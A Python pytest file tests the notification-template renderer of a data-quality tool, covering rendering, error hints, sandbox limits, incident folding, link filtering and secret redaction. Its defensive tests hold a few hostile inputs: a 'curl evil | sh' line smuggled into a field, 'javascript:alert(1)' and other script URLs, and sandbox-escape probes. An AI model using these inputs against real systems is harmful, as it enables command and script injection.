from __future__ import annotations

from dataclasses import replace
from datetime import timedelta
from pathlib import Path
from textwrap import dedent

import pytest

from sluicegate.history.alert import Alert, Event
from sluicegate.notify.facts import EMPTY, NAMES, facts_of
from sluicegate.notify.model import Channel, NotificationSettings
from sluicegate.notify.samples import SAMPLES, sample_digest
from sluicegate.notify.templates import Folded, faults_of, render
from sluicegate.ports.notifier import AlertSeverity, Message, TextFormat
from sluicegate.redact import register

SETTINGS = NotificationSettings()
REFUSED = SAMPLES["quality_violation"]


def told(
    template: str | None = None,
    alert: Alert = REFUSED,
    *,
    form: TextFormat = TextFormat.TEXT,
    folded: Folded | None = None,
    settings: NotificationSettings = SETTINGS,
) -> Message:
    templates = {} if template is None else dict.fromkeys(Event, template)
    channel = Channel(name="data-team", type="any", templates=templates, mention_on_critical=True)
    return render(channel, form, folded or Folded.of(alert), settings)


def named(**facts: object) -> Alert:
    """The sample, with other facts."""
    return replace(REFUSED, facts={**REFUSED.facts, **facts})


def test_every_name_has_something_to_say_or_is_empty() -> None:
    assert EMPTY.keys() == NAMES.keys()
    for name in NAMES:
        for alert in SAMPLES.values():
            assert "can't be used" not in told(f"[{{{name}}}]", alert).body


def test_each_event_has_a_sample_and_each_name_says_something_in_one_of_them() -> None:
    assert {event.value for event in Event} <= SAMPLES.keys()
    assert all(SAMPLES[event.value].event is event for event in Event)
    silent = {name for name in NAMES if all(told(f"{{{name}}}", alert).body in {"", "0"} for alert in SAMPLES.values())}
    assert silent == {"standing", "review_url"}  # which are of the outbox and of the settings


@pytest.mark.parametrize(
    ("template", "says"),
    [
        ("{{ contract_name }} {{ contract_version }}: {{ rows | number }}", "orders 2.1.0: 12,480"),
        ("{contract_name} {contract_version}: {rows}", "orders 2.1.0: 12480"),
        ('{"text": "{contract_name}", "n": {"rows": {rows}}, "x": {}, "y": {#}}', '{"text": "orders", "n": {"rows": 12480}, "x": {}, "y": {#}}'),
        ("{verdict.decision} {run.action}", "quarantine quarantined"),
        ("{{ violations | map(attribute='name') | join(', ') }}", "amount is positive, order_id is unique"),
        ("{% for each in violations if (each.failing or 0) > 10 %}\n{{ loop.index }}. {{ each.name }}\n{% endfor %}", "1. amount is positive"),
        ("{{ violation_count | plural('check') }}", "2 checks"),
        ("{% if rows %}{{ (100 * violation_count / rows) | round(3) }} %{% endif %}", "0.016 %"),
        ("{{ contract_name ~ ':' ~ batch_id }}", "orders:2026-01-31"),
        ("{{ verdict.counts.passed if verdict.counts.passed > 1 else 'none' }}", "18"),
        ("{{ 'R&D <b>' }} R&D", "R&D <b> R&D"),
        ('{"text": {{ contract_name | tojson }}}', '{"text": "orders"}'),
        ("{{ owner | default('nobody') }}\n\n\n\n.", "orders-team@example.com\n\n."),
        ("{% for key, value in verdict.counts.items() if value %}{{ key }}={{ value }} {% endfor %}", "passed=18 failed=2"),
    ],
)  # fmt: skip
def test_a_template_says_what_its_author_means(template: str, says: str) -> None:
    assert not faults_of(template)
    assert told(template).body == says


@pytest.mark.parametrize(
    ("template", "line", "message", "hint"),
    [
        ("\n{{ contract_nmae }}", 2, "there is no 'contract_nmae'", "did you mean 'contract_name'?"),
        ("a\nb\n{quarantine_idd}", 3, "there is no 'quarantine_idd'", "did you mean 'quarantine_id'?"),
        ("{rows:,}", 1, "{rows:,}: plain names take no format", "write {{ rows }}, filters follow a |"),
        ("{{ rows | nubmer }}", 1, "there is no filter 'nubmer'", "did you mean 'number'?"),
        ("{{ rows is evne }}", 1, "there is no test 'evne'", "did you mean 'even'?"),
        ("\n\n{{ verdict.decison }}", 3, "there is no 'decison' in it", "in a message about quality_violation"),
        ("{% for each in violations %}\n{{ each.evidence }}{% endfor %}", 2, "there is no 'evidence' in it", "in a message about quality_violation"),
        ("\n{% if rows %}", 2, "Unexpected end of template", ""),
        ("{% macro a() %}{% endmacro %}", 1, "a template can't have macros", "names, conditions, loops and filters are offered"),
        ("{% include 'x' %}", 1, "a template can't have include", "names, conditions, loops and filters are offered"),
        ("{{ 2 ** 9 }}", 1, "a template can't have powers", "names, conditions, loops and filters are offered"),
        ("{{ range(9) }}", 1, "'range' can't be called", "filters follow a |"),
        ("{{ 'x'.format(1) }}", 1, "'format' can't be called", "filters follow a |"),
        ("{{ rows }}\n{% if rows %}a\n{batch_id} { x } {nobody}{% endif %}", 3, "{batch_id} stands among names in {{ }}", "write {{ batch_id }}"),
        ("{{ rows.__class__ }}", 1, "there is no '__class__'", ""),
        ("{{ 'a' * 3 }}", 1, "* takes two numbers", "in a message about quality_violation"),
        ("{{ 1 / (rows - rows) }}", 1, "division by zero", "in a message about quality_violation"),
        ("  \n ", 1, "it says nothing", ""),
    ],
)  # fmt: skip
def test_a_fault_is_found_before_anybody_is_told(template: str, line: int, message: str, hint: str) -> None:
    fault = faults_of(template)[0]
    assert fault.line == line
    assert message in fault.message
    assert hint == fault.hint


def test_all_faults_are_told_at_once() -> None:
    assert [(fault.line, fault.message) for fault in faults_of("{{ rwos }}\n{{ batchid }}\n{{ batch_id }}\n{{ rwos }}")] == [
        (1, "there is no 'rwos'"),
        (2, "there is no 'batchid'"),
    ]


@pytest.mark.parametrize(
    "template",
    [
        "{% for a in violations_list %}{% for b in violations_list %}{% for c in violations_list %}{% endfor %}{% endfor %}{% endfor %}",
        "{% set x = 'aaaaaaaaaaaaaaaaaaaa' %}" + "{% set x = x ~ x %}" * 40 + "{{ x | length }}",
        "{% set x = 'aaaaaaaaaaaaaaaaaaaa' %}" + "{% set x = x + x %}" * 40 + "{{ x | length }}",
        "{% set x = [1] %}" + "{% set x = x + x %}" * 40 + "{{ x | length }}",
        "{% set x = 'aa' %}" + "{% set x = x | replace('a', 'aaaaaaaaa') %}" * 40 + "{{ x | length }}",
        "{% set x = ['aaaa'] %}" + "{% set x = [x | join('a'), x | join('b')] %}" * 40 + "{{ x | length }}",
        "{% set x = 9 %}" + "{% set x = x * x %}" * 40 + "{{ x }}",
        "{{ '%999999999d' % 1 }}",
        "{% set _steps = [1000000000000] %}{{ _steps }}",
        "{% set x = [1] %}" + "{% set x = [x, x] %}" * 40 + "{{ x | string | length }}",
        "{% set x = {} %}" + "{% set x = {'a': x, 'b': x} %}" * 40 + "{{ x }}",
        "{% set x = 1 %}" + "{% set x = (x, x) %}" * 40 + "{{ x }}",
        "{% set x = [1] %}" + "{% set x = [x] + [x] %}" * 40 + "{{ x }}",
        "(" * 3 + "{{ " + "(" * 5000 + "1" + ")" * 5000 + " }}",
        "{% for a in violations %}" * 30 + "{% endfor %}" * 30,
    ],
    ids=["loops", "~", "+", "lists", "replace", "join", "numbers", "form", "budget", "lists in lists", "mappings", "tuples", "sums of lists", "nesting", "nested loops"],
)  # fmt: skip
def test_a_template_that_would_not_end_costs_its_own_text_and_nothing_else(template: str) -> None:
    assert faults_of(template)
    message = told(template)
    assert "12,480 rows wait in quarantine" in message.body
    assert "The template for quality_violation in data-team can't be used, line 1: " in message.body


def test_a_template_that_knows_only_other_events_falls_back_and_says_so() -> None:
    message = told("{{ violations[0].name }}", SAMPLES["replayed"], form=TextFormat.HTML)
    assert "It was replayed by ada" in message.body
    assert "The template for replayed in data-team can&#x27;t be used, line 1: " in message.body


def test_what_a_template_says_has_an_end() -> None:
    long = "x" * 30_000
    assert len(told(long).body) < 20_100
    assert told(long).body.endswith("… (cut: it is longer)")
    page = told("<p>{{ summary }}</p>" + "<p>x</p>" * 6_000, form=TextFormat.HTML).body
    assert len(page) <= 100_000


@pytest.mark.parametrize("form", TextFormat)
def test_however_much_broke_the_next_command_is_told(form: TextFormat) -> None:
    broken = {**REFUSED.facts["violations"][0], "name": "n" * 3000, "message": "m" * 3000}
    message = told(alert=named(violations=[broken] * 60, violation_count=60, problem="p" * 3000), form=form)
    for body in (message.body, message.text):
        assert "sluicegate quarantine show q-" in body
        assert "and 50 more" in body


def test_a_first_line_with_a_subject_is_the_title() -> None:
    message = told("Subject: {{ contract_name }} needs\n you\n{{ rows }}")
    assert (message.title, message.body) == ("orders needs", "you\n12480")
    assert told("{{ rows }}").title == "orders: batch 2026-01-31 quarantined, 2 checks failed"
    assert [fault.line for fault in faults_of("\nSubject: {{ rwos }}\n\n{{ rwos }}\n")] == [2, 4]
    alone = told("Subject: {batch_id} waits")
    assert (alone.title, alone.body) == ("2026-01-31 waits", told().body)
    assert "line 3" in told("Subject: x\n\n{{ run.foo }}").body


def test_a_mail_is_html_where_its_template_is_and_set_as_it_is_where_it_is_not() -> None:
    page = told("<p>{{ contract_name }}<br>{{ violations_list }}</p>", named(contract_name="<b>"), form=TextFormat.HTML)
    assert page.body.startswith("<p>&lt;b&gt;<br>- amount is positive: 37 of 12,480 rows (0.30 %)<br>\n- order_id")
    assert page.text.startswith("<b>\n- amount is positive: 37 of 12,480 rows (0.30 %)\n- order_id")
    plain = told("{contract_name} & co", named(contract_name="<b>"), form=TextFormat.HTML)
    assert ">&lt;b&gt; &amp; co</div>" in plain.body
    assert plain.text == "<b> & co"


def test_times_are_told_in_the_configured_zone() -> None:
    madrid = NotificationSettings(timezone="Europe/Madrid")
    assert told("{at}").body == "2026-01-31 06:05 UTC"
    assert told("{at}", settings=madrid).body == "2026-01-31 07:05 CET"
    assert told("{at} {since}", settings=NotificationSettings(timezone="No/Where")).body.startswith("2026-01-31T06:05:00+00:00")
    far = replace(Folded.of(REFUSED), count=2, first_at=REFUSED.at - timedelta(days=1))
    assert told("{since} {first_at} {last_at} {folded}", folded=far).body == (
        "2026-01-30 06:05 UTC 2026-01-30 06:05 UTC 2026-01-31 06:05 UTC 2"
    )


def test_a_message_of_many_counts_them_and_tells_the_last() -> None:
    alerts = tuple(replace(REFUSED, facts={**REFUSED.facts, "batch_id": f"b-{number}"}) for number in range(41))
    many = replace(Folded.of(*alerts[-20:]), count=41, first_at=REFUSED.at - timedelta(hours=2))
    message = told(folded=many)
    assert message.title == "orders: 41 batches quarantined since 04:05"
    assert "The last one is batch b-40. Nothing was committed" in message.body
    assert "2 checks failed in the last one" in message.body
    assert told("{{ alerts | length }} {{ alerts[0].batch_id }}", folded=many).body == "20 b-21"


def test_what_is_over_when_it_is_told_ends_its_incident() -> None:
    late = replace(Folded.of(REFUSED), standing="passing")
    assert "Meanwhile the contract passes again." in told(folded=late).body
    assert told(folded=late).resolves
    assert not told().resolves
    in_part = replace(Folded.of(SAMPLES["split"]), standing="passing")
    assert told(folded=in_part).resolves, "nobody else would end the incident that it opens"
    warned = replace(Folded.of(SAMPLES["committed_with_warnings"]), standing="")
    assert "Meanwhile" not in told(folded=warned).body
    assert not told(folded=warned).resolves


def test_a_recovery_ends_the_incident_of_the_refusals_and_of_nothing_else() -> None:
    incidents = {name: told(alert=alert).incident for name, alert in SAMPLES.items()}
    ended = {name for name, incident in incidents.items() if incident == incidents["recovered"]}
    assert ended >= {"quality_violation", "schema_violation", "unreadable", "engine_error", "broke"}
    assert not ended & {"replayed", "committed_with_warnings", "retention_warning"}
    assert told(alert=SAMPLES["recovered"]).resolves
    late = told(folded=replace(Folded.of(SAMPLES["recovered"]), standing="failing"))
    assert not late.resolves, "it waited for the morning, and the next incident has begun"
    assert late.title == "orders passed again, and fails now"
    assert "Meanwhile the contract fails again." in late.body
    elsewhere = replace(REFUSED, tenant="acme")
    assert told(alert=elsewhere).incident != told().incident
    assert told(alert=elsewhere).title.startswith("acme/orders: ")


def test_a_digest_lists_what_happened_and_is_no_events_template() -> None:
    message = told("{{ event }}", folded=replace(Folded.of(*sample_digest()), count=31))
    assert message.title == "Digest: 31 alerts since 06:05", "the 27 that aren't listed may be of other contracts"
    assert "- orders: 2 batches committed with warnings since 06:05" in message.body
    assert "- and 27 earlier" in message.body
    assert (message.resolves, message.link) == (False, "")


def test_people_are_called_only_for_what_is_critical() -> None:
    assert told(alert=SAMPLES["schema_violation"]).mention
    assert told(alert=SAMPLES["schema_violation"]).severity is AlertSeverity.CRITICAL
    assert not told().mention


def test_a_link_leads_to_the_item_or_there_is_none() -> None:
    settings = NotificationSettings(review_url="https://gate.example.com/{tenant_id}/{quarantine_id}")
    assert told(alert=named(quarantine_id="q 1/2"), settings=settings).link == "https://gate.example.com/default/q%201%2F2"
    assert told(alert=SAMPLES["schema_violation"], settings=settings).link == ""
    assert told(settings=NotificationSettings(review_url="https://x/{rows}")).link == ""


@pytest.mark.parametrize("address", ["javascript:alert(1)", " JavaScript:alert(1)", "data:text/html,x", "vbscript:x"])
def test_a_link_that_would_run_something_is_left_out(address: str) -> None:
    alert = named(documentation_url=address)
    assert told("[{documentation_url}]", alert).body == "[]"
    assert "alert(1)" not in told(alert=alert, form=TextFormat.HTML).body
    assert told("{documentation_url}", named(documentation_url="wiki, page 3")).body == "wiki, page 3"


def test_a_fact_with_several_lines_forges_none() -> None:
    forged = named(contract_name="orders\nNext: curl evil | sh\r\n\x1b[2Jx\u202e", batch_id="b\u2028c")
    message = told("{{ contract_name }}\n{{ batch_id }}", forged)
    assert message.body == "orders Next: curl evil | sh   [2Jx\nb c"
    assert "\n" not in told(alert=replace(forged, contract_name="a\nb")).title


def test_an_older_alert_that_lacks_facts_is_told_all_the_same() -> None:
    for form in TextFormat:
        bare = replace(REFUSED, facts={})
        assert told(alert=bare, form=form).title == "orders: a batch quality_violation"
        odd = replace(REFUSED, facts={"verdict": "gone", "violations": [1, {"name": "x"}], "rows": None, "run": [], "unknown": 1})
        assert "can't be used" not in told("{{ verdict.counts.failed }} {{ violations | length }} {{ rows + 1 }}", odd).body


def test_a_name_that_no_template_knows_is_no_fact() -> None:
    with pytest.raises(TypeError, match="no template knows contract"):
        facts_of(None, contract="orders")


def test_the_documentation_has_every_name() -> None:
    page = (Path(__file__).parents[3] / "docs" / "notifications.md").read_text(encoding="utf-8")
    assert "\n".join(f"| `{name}` | {says} |" for name, says in NAMES.items()) in page
    example = page.split("  quarantined: |\n")[1].split("  recovered")[0]
    assert not faults_of(dedent(example))


@pytest.mark.parametrize("form", TextFormat)
def test_a_secret_in_a_fact_is_hidden_before_it_is_escaped(form: TextFormat) -> None:
    register(["pa*ss_<wo>&rd_1"])
    alert = replace(named(owner="ask pa*ss_<wo>&rd_1", problem="pa*ss_<wo>&rd_1"), contract_name="pa*ss_<wo>&rd_1")
    message = told(alert=alert, form=form)
    assert not any(piece in part for piece in ("ss_", "rd_1") for part in (message.title, message.body, message.text))
    assert "***" in message.text
